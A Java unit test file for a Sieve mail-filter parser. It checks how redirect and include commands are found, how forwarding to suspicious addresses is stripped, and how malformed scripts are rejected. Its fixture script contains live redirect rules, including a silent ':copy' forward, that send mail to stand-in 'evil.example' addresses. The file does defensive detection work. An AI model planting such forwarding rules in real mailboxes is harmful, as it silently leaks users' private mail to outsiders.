package dev.quaestor.connector.imap;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.function.UnaryOperator;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SieveScriptTest {
  private static final String SCRIPT =
      """
      require ["fileinto", "include"]; # redirect "comment@evil.example";
      /* redirect "comment@evil.example"; */
      if anyof (header :contains ["subject", "x"] "redirect \\"quoted@evil.example\\";",
                size :over 100K) {
        redirect :copy "one@evil.example"; stop;
      } elsif not address :is "from" "a@b" {
        redirect text:
      two@evil.example
      .
      ;
      } else { if true { redirect "kim@contoso.example"; } }
      vacation :days 7 "redirect \\"vacation@evil.example\\";";
      include :personal "more"; include :global "common";
      """;

  private static SieveScript parsed(String text) {
    return SieveScript.of(text).orElseThrow();
  }

  @Test
  void onlyWhatIsACommandSendsMailOn() {
    assertThat(parsed(SCRIPT).redirects())
        .containsExactly("one@evil.example", "two@evil.example\n", "kim@contoso.example");
    assertThat(parsed(SCRIPT).includes()).containsExactly("more");
  }

  @Test
  void whatIsTakenOutIsAWholeCommandAndAllElseStays() {
    var script = parsed(SCRIPT);

    var without = script.without(to -> to.contains("evil"), name -> "other");

    assertThat(parsed(without).redirects()).containsExactly("kim@contoso.example");
    assertThat(parsed(without).includes()).containsExactly("other");
    assertThat(
            without
                .replace("/* A redirect was taken out by Quaestor. */", "")
                .replace("\"other\"", "\"more\""))
        .isEqualTo(
            SCRIPT
                .replace("redirect :copy \"one@evil.example\";", "")
                .replace("redirect text:\ntwo@evil.example\n.\n;", ""));
    assertThat(script.without(to -> false, UnaryOperator.identity())).isEqualTo(SCRIPT);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "redirect \"a@b\"",
        "redirect \"a@b;",
        "if true { keep;",
        "keep; }",
        "/* never ends",
        "redirect text:\nnever ends",
        "redirect text:",
        "<html>",
        "\"a\";"
      })
  void whatIsNoScriptIsNotHalfRead(String text) {
    assertThat(SieveScript.of(text)).isEmpty();
  }

  @Test
  void whatIsNestedWithoutEndIsNoScript() {
    assertThat(SieveScript.of("if true { ".repeat(20_000))).isEmpty();
    assertThat(SieveScript.of("# " + "x".repeat(SieveScript.LONGEST))).isEmpty();
  }
}
